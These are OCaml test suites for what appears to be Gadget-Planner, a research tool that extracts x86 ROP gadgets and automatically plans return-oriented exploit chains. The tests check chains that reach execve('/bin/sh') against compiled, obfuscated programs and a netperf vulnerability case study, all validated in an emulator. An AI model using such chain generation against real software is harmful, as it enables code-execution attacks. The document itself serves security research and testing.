let summarize ?config insns = Gp_symx.Exec.summarize ?config (image_of insns) 0x400000L

let the_summary insns =
  match summarize insns with
  | [ s ] -> s
  | l -> Alcotest.failf "expected exactly one summary, got %d" (List.length l)

let final_reg s r = Term.simplify (Gp_symx.State.reg s.Gp_symx.Exec.s_state r)

let test_pop_ret () =
  let s = the_summary [ Insn.Pop Reg.RDI; Insn.Ret ] in
  Alcotest.(check bool) "rdi = stk_0" true
    (final_reg s Reg.RDI = Gp_symx.State.slot_var 0);
  (match s.Gp_symx.Exec.s_jump with
   | Gp_symx.Exec.Jret t ->
     Alcotest.(check bool) "target = stk_8" true
       (Term.simplify t = Gp_symx.State.slot_var 8)
   | _ -> Alcotest.fail "expected ret jump");
  (* rsp advanced by 16: one pop + the ret itself *)
  match Term.linearize (final_reg s Reg.RSP) with
  | Some { Term.lin_const = 16L; lin_terms = [ ("rsp_0", 1L) ] } -> ()
  | _ -> Alcotest.fail "stack delta 16"

let test_arith_post () =
  let s =
    the_summary
      [ Insn.Add (Insn.Reg Reg.RAX, Insn.Reg Reg.RBX);
        Insn.Inc Reg.RAX;
        Insn.Ret ]
  in
  (* rax = rax_0 + rbx_0 + 1 *)
  Alcotest.(check bool) "rax term" true
    (Term.equal (final_reg s Reg.RAX)
       (Term.add (Term.add (Term.var "rax_0") (Term.var "rbx_0")) (Term.const 1L)))

let test_fig4b_condition_not_taken () =
  (* Fig. 4(b): a conditional jump mid-gadget; on the fall-through path the
     pre-condition is rdx == rbx (jne NOT taken) *)
  let insns =
    [ Insn.Cmp (Insn.Reg Reg.RDX, Insn.Reg Reg.RBX);
      Insn.Jcc (Insn.NE, 100);   (* target out of code: taken path dies *)
      Insn.Pop Reg.RAX;
      Insn.Ret ]
  in
  match summarize insns with
  | [ s ] ->
    Alcotest.(check bool) "conditional" true s.Gp_symx.Exec.s_has_cond;
    let path = s.Gp_symx.Exec.s_state.Gp_symx.State.path in
    Alcotest.(check bool) "pre: rdx == rbx" true
      (List.exists
         (fun f ->
           match Formula.simplify f with
           | Formula.Eq (a, b) ->
             Solver.prove_equal a (Term.var "rdx_0")
             && Solver.prove_equal b (Term.var "rbx_0")
             || Solver.prove_equal (Term.sub a b)
                  (Term.sub (Term.var "rdx_0") (Term.var "rbx_0"))
           | _ -> false)
         path)
  | l -> Alcotest.failf "expected 1 summary, got %d" (List.length l)

let test_fig4c_condition_taken () =
  (* Fig. 4(c): the jump must be TAKEN to reach the second half *)
  let jcc_len = Encode.length (Insn.Jcc (Insn.E, 0)) in
  let skip = Encode.length (Insn.Hlt) in
  ignore jcc_len;
  let insns =
    [ Insn.Test (Reg.RCX, Reg.RCX);
      Insn.Jcc (Insn.E, skip);    (* hop over the hlt *)
      Insn.Hlt;                    (* fall-through path dies *)
      Insn.Pop Reg.RDI;
      Insn.Ret ]
  in
  match summarize insns with
  | [ s ] ->
    Alcotest.(check bool) "conditional" true s.Gp_symx.Exec.s_has_cond;
    Alcotest.(check bool) "pre: rcx == 0" true
      (List.exists
         (fun f ->
           match Formula.simplify f with
           | Formula.Eq (Term.Var "rcx_0", Term.Const 0L)
           | Formula.Eq (Term.Const 0L, Term.Var "rcx_0") -> true
           | _ -> false)
         s.Gp_symx.Exec.s_state.Gp_symx.State.path)
  | l -> Alcotest.failf "expected 1 summary, got %d" (List.length l)

let test_cond_forks_both_paths () =
  (* both branches viable -> two summaries with complementary conditions *)
  let jcc_target = Encode.length (Insn.Pop Reg.RDI) + Encode.length Insn.Ret in
  let insns =
    [ Insn.Cmp (Insn.Reg Reg.RAX, Insn.Reg Reg.RBX);
      Insn.Jcc (Insn.E, jcc_target);
      Insn.Pop Reg.RDI; Insn.Ret;
      Insn.Pop Reg.RSI; Insn.Ret ]
  in
  match summarize insns with
  | [ a; b ] ->
    Alcotest.(check bool) "both conditional" true
      (a.Gp_symx.Exec.s_has_cond && b.Gp_symx.Exec.s_has_cond);
    let sets_rdi s = final_reg s Reg.RDI = Gp_symx.State.slot_var 0 in
    Alcotest.(check bool) "one sets rdi, one sets rsi" true
      (sets_rdi a <> sets_rdi b)
  | l -> Alcotest.failf "expected 2 summaries, got %d" (List.length l)

let test_direct_jump_merge () =
  (* jmp +1 over a hlt, then pop/ret: merged into one gadget *)
  let insns =
    [ Insn.Jmp 1; Insn.Hlt; Insn.Pop Reg.RBX; Insn.Ret ]
  in
  (* a bare jmp has no body before it, so start one instruction in *)
  match summarize insns with
  | [ s ] ->
    Alcotest.(check bool) "merged" true s.Gp_symx.Exec.s_has_merge;
    Alcotest.(check bool) "rbx controlled" true
      (final_reg s Reg.RBX = Gp_symx.State.slot_var 0)
  | l -> Alcotest.failf "expected 1 summary, got %d" (List.length l)

let test_leave_pivot () =
  let s = the_summary [ Insn.Leave; Insn.Ret ] in
  (* rsp after leave;ret = rbp_0 + 16 *)
  (match Term.linearize (final_reg s Reg.RSP) with
   | Some { Term.lin_const = 16L; lin_terms = [ ("rbp_0", 1L) ] } -> ()
   | _ -> Alcotest.fail "pivot to rbp_0+16");
  (* rbp and the ret target come from [rbp]: pointer reads *)
  Alcotest.(check bool) "mem reads recorded" true
    (List.length s.Gp_symx.Exec.s_state.Gp_symx.State.mem_reads = 2)

let test_syscall_gadget_and_continuation () =
  let insns =
    [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 59L); Insn.Syscall;
      Insn.Pop Reg.RBP; Insn.Ret ]
  in
  let sums = summarize insns in
  Alcotest.(check int) "two summaries" 2 (List.length sums);
  let sys = List.find (fun s -> s.Gp_symx.Exec.s_syscall) sums in
  let cont = List.find (fun s -> not s.Gp_symx.Exec.s_syscall) sums in
  (* the syscall summary records rax = 59 at the syscall *)
  (match sys.Gp_symx.Exec.s_state.Gp_symx.State.syscalls with
   | [ regs ] ->
     Alcotest.(check bool) "rax at syscall" true
       (List.assoc Reg.RAX regs = Term.const 59L)
   | _ -> Alcotest.fail "one syscall record");
  (* the continuation ends in ret and has an uncontrollable rax *)
  (match cont.Gp_symx.Exec.s_jump with
   | Gp_symx.Exec.Jret _ -> ()
   | _ -> Alcotest.fail "continuation ends in ret");
  match final_reg cont Reg.RAX with
  | Term.Var v ->
    Alcotest.(check bool) "sysret var" true
      (String.length v >= 6 && String.sub v 0 6 = "sysret")
  | _ -> Alcotest.fail "rax fresh after syscall"

let test_store_forwarding () =
  (* write [rbx], rcx then read it back: value forwards, no fresh var *)
  let insns =
    [ Insn.Mov (Insn.Mem (Insn.mem Reg.RBX), Insn.Reg Reg.RCX);
      Insn.Mov (Insn.Reg Reg.RAX, Insn.Mem (Insn.mem Reg.RBX));
      Insn.Ret ]
  in
  let s = the_summary insns in
  Alcotest.(check bool) "forwarded" true
    (Term.equal (final_reg s Reg.RAX) (Term.var "rcx_0"));
  Alcotest.(check bool) "no hazard" false
    s.Gp_symx.Exec.s_state.Gp_symx.State.alias_hazard

let test_alias_hazard () =
  (* write [rbx], then read [rdx]: distance unknown -> hazard *)
  let insns =
    [ Insn.Mov (Insn.Mem (Insn.mem Reg.RBX), Insn.Reg Reg.RCX);
      Insn.Mov (Insn.Reg Reg.RAX, Insn.Mem (Insn.mem Reg.RDX));
      Insn.Ret ]
  in
  let s = the_summary insns in
  Alcotest.(check bool) "hazard" true
    s.Gp_symx.Exec.s_state.Gp_symx.State.alias_hazard

let test_disjoint_frame_slots_no_hazard () =
  (* write [rbx], read [rbx-16]: provably disjoint *)
  let insns =
    [ Insn.Mov (Insn.Mem (Insn.mem Reg.RBX), Insn.Reg Reg.RCX);
      Insn.Mov (Insn.Reg Reg.RAX, Insn.Mem (Insn.mem ~disp:(-16) Reg.RBX));
      Insn.Ret ]
  in
  let s = the_summary insns in
  Alcotest.(check bool) "no hazard" false
    s.Gp_symx.Exec.s_state.Gp_symx.State.alias_hazard

let test_stack_write_tracking () =
  let s =
    the_summary [ Insn.Push Reg.RAX; Insn.Pop Reg.RBX; Insn.Ret ]
  in
  Alcotest.(check bool) "push recorded" true
    (List.exists (fun (off, _) -> off = -8)
       s.Gp_symx.Exec.s_state.Gp_symx.State.stack_writes);
  (* pop after push forwards the pushed value *)
  Alcotest.(check bool) "rbx = rax_0" true
    (Term.equal (final_reg s Reg.RBX) (Term.var "rax_0"))

let test_pointer_write_recorded () =
  let s =
    the_summary
      [ Insn.Mov (Insn.Mem (Insn.mem ~disp:8 Reg.RDI), Insn.Reg Reg.RSI); Insn.Ret ]
  in
  match s.Gp_symx.Exec.s_state.Gp_symx.State.ptr_writes with
  | [ (addr, value) ] ->
    Alcotest.(check bool) "addr" true
      (Term.equal addr (Term.add (Term.var "rdi_0") (Term.const 8L)));
    Alcotest.(check bool) "value" true (Term.equal value (Term.var "rsi_0"))
  | _ -> Alcotest.fail "one pointer write"

let test_budget_limits () =
  (* straight-line run longer than the budget yields nothing *)
  let insns = List.init 30 (fun _ -> Insn.Nop) @ [ Insn.Ret ] in
  let config = { Gp_symx.Exec.max_insns = 8; max_forks = 1; max_merges = 1 } in
  Alcotest.(check int) "over budget" 0 (List.length (summarize ~config insns))

let base_suite () =
  [ Alcotest.test_case "pop;ret summary" `Quick test_pop_ret;
    Alcotest.test_case "arith post-conditions" `Quick test_arith_post;
    Alcotest.test_case "Fig4(b) cond not taken" `Quick test_fig4b_condition_not_taken;
    Alcotest.test_case "Fig4(c) cond taken" `Quick test_fig4c_condition_taken;
    Alcotest.test_case "cond forks both paths" `Quick test_cond_forks_both_paths;
    Alcotest.test_case "direct jump merge" `Quick test_direct_jump_merge;
    Alcotest.test_case "leave pivot" `Quick test_leave_pivot;
    Alcotest.test_case "syscall + continuation" `Quick
      test_syscall_gadget_and_continuation;
    Alcotest.test_case "store forwarding" `Quick test_store_forwarding;
    Alcotest.test_case "alias hazard" `Quick test_alias_hazard;
    Alcotest.test_case "disjoint frame slots" `Quick test_disjoint_frame_slots_no_hazard;
    Alcotest.test_case "stack write tracking" `Quick test_stack_write_tracking;
    Alcotest.test_case "pointer write recorded" `Quick test_pointer_write_recorded;
    Alcotest.test_case "budget limits" `Quick test_budget_limits ]


(* ----- differential property: symbolic summaries agree with the
   concrete emulator on straight-line gadgets ----- *)

(* A register-safe instruction generator: no control flow, no memory
   outside the rsp-relative stack window, and rsp never written except by
   push/pop (so the summary's stack model applies). *)
let gen_diff_insn : Insn.t QCheck2.Gen.t =
  let open QCheck2.Gen in
  let reg_no_rsp =
    map
      (fun i -> Reg.of_number i)
      (oneof [ int_range 0 3; int_range 5 15 ])   (* skip RSP = 4 *)
  in
  let any_reg = map Reg.of_number (int_range 0 15) in
  let small_imm = map Int64.of_int (int_range (-1000) 1000) in
  let stack_slot = map (fun k -> Insn.mem ~disp:(8 * k) Reg.RSP) (int_range 0 8) in
  oneof
    [ map2 (fun d s -> Insn.Mov (Insn.Reg d, Insn.Reg s)) reg_no_rsp any_reg;
      map2 (fun d i -> Insn.Mov (Insn.Reg d, Insn.Imm i)) reg_no_rsp small_imm;
      map2 (fun d m -> Insn.Mov (Insn.Reg d, Insn.Mem m)) reg_no_rsp stack_slot;
      map2 (fun m s -> Insn.Mov (Insn.Mem m, Insn.Reg s)) stack_slot any_reg;
      map2 (fun d s -> Insn.Add (Insn.Reg d, Insn.Reg s)) reg_no_rsp any_reg;
      map2 (fun d s -> Insn.Sub (Insn.Reg d, Insn.Reg s)) reg_no_rsp any_reg;
      map2 (fun d s -> Insn.Xor (Insn.Reg d, Insn.Reg s)) reg_no_rsp any_reg;
      map2 (fun d s -> Insn.And_ (Insn.Reg d, Insn.Reg s)) reg_no_rsp any_reg;
      map2 (fun d s -> Insn.Or_ (Insn.Reg d, Insn.Reg s)) reg_no_rsp any_reg;
      map2 (fun d s -> Insn.Imul (d, s)) reg_no_rsp any_reg;
      map2 (fun d m -> Insn.Lea (d, m)) reg_no_rsp
        (map2 (fun b k -> Insn.mem ~disp:k b) any_reg (int_range (-64) 64));
      map (fun r -> Insn.Push r) any_reg;
      map (fun r -> Insn.Pop r) reg_no_rsp;
      map (fun r -> Insn.Inc r) reg_no_rsp;
      map (fun r -> Insn.Dec r) reg_no_rsp;
      map (fun r -> Insn.Neg r) reg_no_rsp;
      map (fun r -> Insn.Not_ r) reg_no_rsp;
      map2 (fun a b -> Insn.Xchg (a, b)) reg_no_rsp reg_no_rsp;
      map2 (fun r k -> Insn.Shl (r, k)) reg_no_rsp (int_range 0 63);
      map2 (fun r k -> Insn.Shr (r, k)) reg_no_rsp (int_range 0 63);
      map2 (fun r k -> Insn.Sar (r, k)) reg_no_rsp (int_range 0 63) ]

let prop_symx_matches_emulator (body, seed) =
  let insns = body @ [ Insn.Ret ] in
  match summarize insns with
  | [ s ] -> (
    (* concrete machine with random registers and stack content *)
    let image = image_of insns in
    let m = Gp_emu.Machine.create image in
    let rng = Gp_util.Rng.create seed in
    List.iter
      (fun r ->
        if r <> Reg.RSP then Gp_emu.Machine.set_reg m r (Gp_util.Rng.next_int64 rng))
      Reg.all;
    let rsp0 = Gp_emu.Machine.rsp m in
    (* pre-fill the stack window the gadget may touch *)
    for k = -32 to 32 do
      Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
        (Int64.add rsp0 (Int64.of_int (8 * k)))
        (Gp_util.Rng.next_int64 rng)
    done;
    (* record the model BEFORE execution *)
    let init_reg = List.map (fun r -> (r, Gp_emu.Machine.reg m r)) Reg.all in
    (* snapshot the PRE-execution stack: the gadget may overwrite it *)
    let init_stack =
      List.init 65 (fun i ->
          let k = 8 * (i - 32) in
          ( k,
            Gp_emu.Memory.read64 m.Gp_emu.Machine.mem
              (Int64.add rsp0 (Int64.of_int k)) ))
    in
    let stack_word k = try List.assoc k init_stack with Not_found -> 0L in
    let model v =
      match Gp_symx.State.slot_of_var v with
      | Some off -> stack_word off
      | None -> (
        try
          let rname = String.sub v 0 (String.length v - 2) in
          List.assoc (Reg.of_name rname) init_reg
        with _ -> 0L)
    in
    (* run exactly the gadget's instructions *)
    (try
       for _ = 1 to List.length insns do
         Gp_emu.Machine.step m
       done
     with Gp_emu.Machine.Halt _ | Gp_emu.Memory.Fault _ -> ());
    (* every register (rsp included) must match the symbolic post term *)
    List.for_all
      (fun r ->
        let symbolic = Gp_smt.Term.eval model (final_reg s r) in
        let concrete = Gp_emu.Machine.reg m r in
        symbolic = concrete)
      Reg.all
    (* and the ret target must be where rip actually went *)
    && (match s.Gp_symx.Exec.s_jump with
        | Gp_symx.Exec.Jret t ->
          Gp_smt.Term.eval model t = m.Gp_emu.Machine.rip
        | _ -> false))
  | _ -> true   (* non-single summaries are out of scope here *)

let differential_suite =
  [ Gen.qtest "symx matches emulator" ~count:500
      QCheck2.Gen.(pair (list_size (int_range 1 8) gen_diff_insn) (int_range 0 1000000))
      prop_symx_matches_emulator ]

let suite = base_suite () @ differential_suite
