(* Tests for the three baseline tools: each finds what its strategy class
   can see and no more. *)

let small_src =
  {|
int f(int a) { return a * 3 + 1; }
int main() { int s = 0; int i; for (i = 0; i < 6; i = i + 1) { s = s + f(i); } return s; }
|}

let image = Gp_codegen.Pipeline.compile small_src

let pool = Gp_core.Extract.harvest image

let test_ropgadget_execve_only () =
  let execve = Gp_baselines.Ropgadget.run image (Gp_core.Goal.Execve "/bin/sh") in
  let mprotect =
    Gp_baselines.Ropgadget.run image
      (Gp_core.Goal.Mprotect (Gp_emu.Machine.stack_base, 0x1000L, 7L))
  in
  (* the template only knows execve *)
  Alcotest.(check int) "no mprotect chain" 0
    (Gp_baselines.Report.chain_count mprotect);
  (* and our runtime provides every template slot, so execve succeeds *)
  Alcotest.(check int) "one execve chain" 1 (Gp_baselines.Report.chain_count execve)

let test_ropgadget_pool_is_ret_only () =
  let r = Gp_baselines.Ropgadget.run image (Gp_core.Goal.Execve "/bin/sh") in
  Alcotest.(check bool) "found some gadgets" true (r.Gp_baselines.Report.pool_total > 0)

let test_angrop_sets_all_goals () =
  List.iter
    (fun goal ->
      let r = Gp_baselines.Angrop.run ~pool image goal in
      Alcotest.(check bool)
        (Gp_core.Goal.name goal ^ " <= 1 chain")
        true
        (Gp_baselines.Report.chain_count r <= 1))
    Gp_core.Goal.default_goals

let test_angrop_chains_validate () =
  let r = Gp_baselines.Angrop.run ~pool image (Gp_core.Goal.Execve "/bin/sh") in
  List.iter
    (fun c ->
      Alcotest.(check bool) "validated" true (Gp_core.Payload.validate image c))
    r.Gp_baselines.Report.chains

let test_angrop_simple_filter () =
  (* angrop only keeps clean ret gadgets: no conditionals, no memory *)
  let simple = List.filter Gp_baselines.Angrop.simple pool in
  List.iter
    (fun (g : Gp_core.Gadget.t) ->
      Alcotest.(check bool) "ret kind" true (g.Gp_core.Gadget.kind = Gp_core.Gadget.Return);
      Alcotest.(check bool) "no pre" true (g.Gp_core.Gadget.pre = []);
      Alcotest.(check bool) "no mem" true
        (g.Gp_core.Gadget.mem_reads = [] && g.Gp_core.Gadget.ptr_writes = []))
    simple;
  Alcotest.(check bool) "some survive" true (simple <> [])

let test_sgc_restriction () =
  (* SGC's pool never contains conditional or merged gadgets *)
  let restricted = Gp_baselines.Sgc.select (List.filter Gp_baselines.Sgc.eligible pool) in
  List.iter
    (fun (g : Gp_core.Gadget.t) ->
      Alcotest.(check bool) "no cond" false g.Gp_core.Gadget.has_cond;
      Alcotest.(check bool) "no merge" false g.Gp_core.Gadget.has_merge)
    restricted;
  Alcotest.(check bool) "selection shrinks pool" true
    (List.length restricted <= List.length pool)

let test_sgc_finds_some_but_capped () =
  let r = Gp_baselines.Sgc.run ~pool image (Gp_core.Goal.Execve "/bin/sh") in
  Alcotest.(check bool) "bounded" true (Gp_baselines.Report.chain_count r <= 6);
  List.iter
    (fun c -> Alcotest.(check bool) "validated" true (Gp_core.Payload.validate image c))
    r.Gp_baselines.Report.chains

let test_gp_dominates_baselines () =
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let a = Gp_core.Api.analyze image in
  let gp =
    Gp_core.Api.run_with_analysis
      ~planner_config:
        { Gp_core.Planner.max_plans = 50; node_budget = 1500; time_budget = 20.;
          branch_cap = 10; goal_cap = 6; max_steps = 14 }
      a goal
  in
  let rg = Gp_baselines.Ropgadget.run image goal in
  let ag = Gp_baselines.Angrop.run ~pool image goal in
  let sg = Gp_baselines.Sgc.run ~pool image goal in
  let gp_n = List.length gp.Gp_core.Api.chains in
  Alcotest.(check bool) "gp > ropgadget" true
    (gp_n > Gp_baselines.Report.chain_count rg);
  Alcotest.(check bool) "gp > angrop" true
    (gp_n > Gp_baselines.Report.chain_count ag);
  Alcotest.(check bool) "gp > sgc" true
    (gp_n > Gp_baselines.Report.chain_count sg)

let test_report_stats () =
  let r = Gp_baselines.Angrop.run ~pool image (Gp_core.Goal.Execve "/bin/sh") in
  if r.Gp_baselines.Report.chains <> [] then begin
    Alcotest.(check bool) "gadget len positive" true
      (Gp_baselines.Report.avg_gadget_len r > 0.);
    Alcotest.(check bool) "chain len >= gadget len" true
      (Gp_baselines.Report.avg_chain_len r >= Gp_baselines.Report.avg_gadget_len r);
    let ret, ij, dj, cj = Gp_baselines.Report.kind_percentages r in
    Alcotest.(check bool) "percentages sane" true
      (ret >= 0. && ret <= 100. && ij = 0. && dj = 0. && cj = 0.)
  end

let suite =
  [ Alcotest.test_case "ropgadget execve only" `Quick test_ropgadget_execve_only;
    Alcotest.test_case "ropgadget pool" `Quick test_ropgadget_pool_is_ret_only;
    Alcotest.test_case "angrop at most one chain" `Quick test_angrop_sets_all_goals;
    Alcotest.test_case "angrop chains validate" `Quick test_angrop_chains_validate;
    Alcotest.test_case "angrop simple filter" `Quick test_angrop_simple_filter;
    Alcotest.test_case "sgc restriction" `Quick test_sgc_restriction;
    Alcotest.test_case "sgc capped" `Quick test_sgc_finds_some_but_capped;
    Alcotest.test_case "gp dominates baselines" `Slow test_gp_dominates_baselines;
    Alcotest.test_case "report stats" `Quick test_report_stats ]
