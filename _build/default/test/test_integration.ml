(* End-to-end integration tests: the full Gadget-Planner pipeline on
   compiled (and obfuscated) corpus programs, the netperf case study
   through the real vulnerability, and tool-comparison invariants. *)

let planner_config =
  { Gp_core.Planner.max_plans = 20; node_budget = 1500; time_budget = 20.;
    branch_cap = 10; goal_cap = 6; max_steps = 14 }

let build ?(cfg = Gp_obf.Obf.none) name =
  Gp_harness.Workspace.build ~config_name:"t" ~cfg (Gp_corpus.Programs.find name)

let test_chains_on_original () =
  let b = build "fibonacci" in
  List.iter
    (fun goal ->
      let o = Gp_core.Api.run_with_analysis ~planner_config b.Gp_harness.Workspace.analysis goal in
      Alcotest.(check bool)
        (Gp_core.Goal.name goal ^ " has chains") true
        (o.Gp_core.Api.chains <> []))
    Gp_core.Goal.default_goals

let test_chains_on_obfuscated () =
  List.iter
    (fun (name, cfg) ->
      let b = build ~cfg "fibonacci" in
      let o =
        Gp_core.Api.run_with_analysis ~planner_config b.Gp_harness.Workspace.analysis
          (Gp_core.Goal.Execve "/bin/sh")
      in
      Alcotest.(check bool) (name ^ " has chains") true (o.Gp_core.Api.chains <> []))
    [ ("ollvm", Gp_obf.Obf.ollvm); ("tigress", Gp_obf.Obf.tigress) ]

let test_every_emitted_chain_is_validated () =
  (* Api.run only returns emulator-confirmed chains; re-validate to be sure *)
  let b = build ~cfg:Gp_obf.Obf.ollvm "crc_check" in
  let o =
    Gp_core.Api.run_with_analysis ~planner_config b.Gp_harness.Workspace.analysis
      (Gp_core.Goal.Execve "/bin/sh")
  in
  Alcotest.(check bool) "found some" true (o.Gp_core.Api.chains <> []);
  List.iter
    (fun c ->
      Alcotest.(check bool) "revalidates" true
        (Gp_core.Payload.validate b.Gp_harness.Workspace.image c))
    o.Gp_core.Api.chains

let test_chain_goal_args_exact () =
  (* validation checks exact goal arguments, not just "some execve" *)
  let b = build "bubble_sort" in
  let o =
    Gp_core.Api.run_with_analysis ~planner_config b.Gp_harness.Workspace.analysis
      (Gp_core.Goal.Execve "/bin/sh")
  in
  match o.Gp_core.Api.chains with
  | c :: _ -> (
    let m = Gp_emu.Machine.create b.Gp_harness.Workspace.image in
    let pbase = Gp_core.Layout.payload_base () in
    Array.iteri
      (fun k w ->
        Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
          (Int64.add pbase (Int64.of_int (8 * k))) w)
      c.Gp_core.Payload.c_payload;
    m.Gp_emu.Machine.rip <- c.Gp_core.Payload.c_payload.(0);
    Gp_emu.Machine.set_rsp m (Int64.add pbase 8L);
    match Gp_emu.Machine.run ~fuel:1_000_000 m with
    | Gp_emu.Machine.Attacked (Gp_emu.Machine.Execve { path; argv; envp }) ->
      Alcotest.(check string) "path" "/bin/sh" path;
      Alcotest.(check int64) "argv" 0L argv;
      Alcotest.(check int64) "envp" 0L envp
    | _ -> Alcotest.fail "expected execve")
  | [] -> Alcotest.fail "no chain"

let test_netperf_end_to_end () =
  let b =
    Gp_harness.Workspace.build ~config_name:"llvm-obf" ~cfg:Gp_obf.Obf.ollvm
      Gp_corpus.Netperf.entry
  in
  match Gp_harness.Netperf_attack.run ~planner_config b with
  | Some r ->
    Alcotest.(check bool) "filler probed" true
      (r.Gp_harness.Netperf_attack.probe.Gp_harness.Netperf_attack.filler_words > 0);
    Alcotest.(check bool) "confirmed chains" true
      (r.Gp_harness.Netperf_attack.chains <> [])
  | None -> Alcotest.fail "probe failed"

let test_layout_reset_after_netperf () =
  (* the netperf scenario must restore the default layout *)
  Alcotest.(check int64) "layout restored" Gp_core.Layout.default_base
    (Gp_core.Layout.payload_base ())

let test_gp_beats_baselines_on_obfuscated () =
  let b = build ~cfg:Gp_obf.Obf.ollvm "stack_machine" in
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let gp =
    Gp_core.Api.run_with_analysis ~planner_config b.Gp_harness.Workspace.analysis goal
  in
  let pool_list = b.Gp_harness.Workspace.analysis.Gp_core.Api.gadgets in
  let rg = Gp_baselines.Ropgadget.run b.Gp_harness.Workspace.image goal in
  let ag = Gp_baselines.Angrop.run ~pool:pool_list b.Gp_harness.Workspace.image goal in
  let n = List.length gp.Gp_core.Api.chains in
  Alcotest.(check bool) "gp > rg" true (n > Gp_baselines.Report.chain_count rg);
  Alcotest.(check bool) "gp > angrop" true (n > Gp_baselines.Report.chain_count ag)

let test_obfuscation_introduces_new_chains () =
  (* chains on the obfuscated binary that use gadgets absent from the
     original pool — the paper's parenthesized Table IV numbers *)
  let entry = Gp_corpus.Programs.find "fibonacci" in
  let orig = Gp_harness.Workspace.build entry in
  let obf =
    Gp_harness.Workspace.build ~config_name:"tigress" ~cfg:Gp_obf.Obf.tigress entry
  in
  let texts = Gp_harness.Workspace.pool_texts orig.Gp_harness.Workspace.analysis in
  let o =
    Gp_core.Api.run_with_analysis ~planner_config obf.Gp_harness.Workspace.analysis
      (Gp_core.Goal.Execve "/bin/sh")
  in
  let nnew =
    List.length
      (List.filter (Gp_harness.Workspace.chain_is_new texts) o.Gp_core.Api.chains)
  in
  Alcotest.(check bool) "new chains exist" true (nnew > 0)

let test_gadget_counts_increase_with_obfuscation () =
  List.iter
    (fun name ->
      let e = Gp_corpus.Programs.find name in
      let count cfg =
        let image =
          Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
            e.Gp_corpus.Programs.source
        in
        List.length (Gp_core.Extract.raw_scan image)
      in
      let orig = count Gp_obf.Obf.none in
      Alcotest.(check bool) (name ^ " ollvm increases") true
        (count Gp_obf.Obf.ollvm > orig);
      Alcotest.(check bool) (name ^ " tigress increases") true
        (count Gp_obf.Obf.tigress > orig))
    [ "bubble_sort"; "binary_search" ]

let suite =
  [ Alcotest.test_case "chains on original" `Slow test_chains_on_original;
    Alcotest.test_case "chains on obfuscated" `Slow test_chains_on_obfuscated;
    Alcotest.test_case "emitted chains validated" `Slow
      test_every_emitted_chain_is_validated;
    Alcotest.test_case "goal args exact" `Slow test_chain_goal_args_exact;
    Alcotest.test_case "netperf end to end" `Slow test_netperf_end_to_end;
    Alcotest.test_case "layout reset" `Quick test_layout_reset_after_netperf;
    Alcotest.test_case "gp beats baselines" `Slow test_gp_beats_baselines_on_obfuscated;
    Alcotest.test_case "obfuscation new chains" `Slow
      test_obfuscation_introduces_new_chains;
    Alcotest.test_case "gadget counts increase" `Slow
      test_gadget_counts_increase_with_obfuscation ]

let test_execve_arbitrary_path () =
  (* when the string is NOT in the binary, it is staged inside the
     payload itself; the emulator must still see the exact path *)
  let b = build "crc_check" in
  let goal = Gp_core.Goal.Execve "/usr/bin/id" in
  let o =
    Gp_core.Api.run_with_analysis ~planner_config b.Gp_harness.Workspace.analysis goal
  in
  Alcotest.(check bool) "chains found" true (o.Gp_core.Api.chains <> []);
  match o.Gp_core.Api.chains with
  | c :: _ -> (
    let m = Gp_emu.Machine.create b.Gp_harness.Workspace.image in
    let pbase = Gp_core.Layout.payload_base () in
    Array.iteri
      (fun k w ->
        Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
          (Int64.add pbase (Int64.of_int (8 * k))) w)
      c.Gp_core.Payload.c_payload;
    m.Gp_emu.Machine.rip <- c.Gp_core.Payload.c_payload.(0);
    Gp_emu.Machine.set_rsp m (Int64.add pbase 8L);
    match Gp_emu.Machine.run ~fuel:1_000_000 m with
    | Gp_emu.Machine.Attacked (Gp_emu.Machine.Execve { path; _ }) ->
      Alcotest.(check string) "staged path" "/usr/bin/id" path
    | _ -> Alcotest.fail "expected execve")
  | [] -> ()

let suite = suite @
  [ Alcotest.test_case "execve arbitrary path" `Slow test_execve_arbitrary_path ]
