(* Tests for gadget extraction, classification, subsumption, and the
   register-indexed pool. *)

open Gp_x86

let image_of insns =
  Gp_util.Image.create ~entry:0x400000L ~code:(Encode.insns insns)
    ~data:(Bytes.create 16) ()

let gadgets_of insns =
  List.map Gp_core.Gadget.of_summary
    (Gp_symx.Exec.summarize (image_of insns) 0x400000L)

let test_record_fields () =
  (* the Table II record of "pop rax; ret" *)
  match gadgets_of [ Insn.Pop Reg.RAX; Insn.Ret ] with
  | [ g ] ->
    Alcotest.(check int) "len" 2 g.Gp_core.Gadget.len;
    Alcotest.(check int64) "location" 0x400000L g.Gp_core.Gadget.addr;
    Alcotest.(check bool) "clob includes rax" true
      (List.mem Reg.RAX g.Gp_core.Gadget.clobbered);
    Alcotest.(check bool) "ctrl rax from slot 0" true
      (List.assoc_opt Reg.RAX g.Gp_core.Gadget.controlled = Some 0);
    Alcotest.(check bool) "delta 16" true
      (g.Gp_core.Gadget.stack_delta = Gp_core.Gadget.Sdelta 16);
    Alcotest.(check string) "kind" "ret" (Gp_core.Gadget.kind_name g.Gp_core.Gadget.kind)
  | l -> Alcotest.failf "expected 1 gadget, got %d" (List.length l)

let test_classification () =
  let kind insns =
    match gadgets_of insns with
    | g :: _ -> g.Gp_core.Gadget.kind
    | [] -> Alcotest.fail "no gadget"
  in
  Alcotest.(check bool) "ret" true (kind [ Insn.Nop; Insn.Ret ] = Gp_core.Gadget.Return);
  Alcotest.(check bool) "uij" true
    (kind [ Insn.Pop Reg.RAX; Insn.JmpReg Reg.RAX ] = Gp_core.Gadget.UIJ);
  Alcotest.(check bool) "udj (merged)" true
    (kind [ Insn.Pop Reg.RBX; Insn.Jmp 1; Insn.Hlt; Insn.Ret ] = Gp_core.Gadget.UDJ);
  Alcotest.(check bool) "sys" true
    (kind [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 59L); Insn.Syscall ]
     = Gp_core.Gadget.Sys
     || (* the continuation summary may come first *)
     List.exists
       (fun g -> g.Gp_core.Gadget.kind = Gp_core.Gadget.Sys)
       (gadgets_of [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 59L); Insn.Syscall ]))

let test_usable_filter () =
  (* a ret gadget with a huge stack delta is rejected *)
  let g_big =
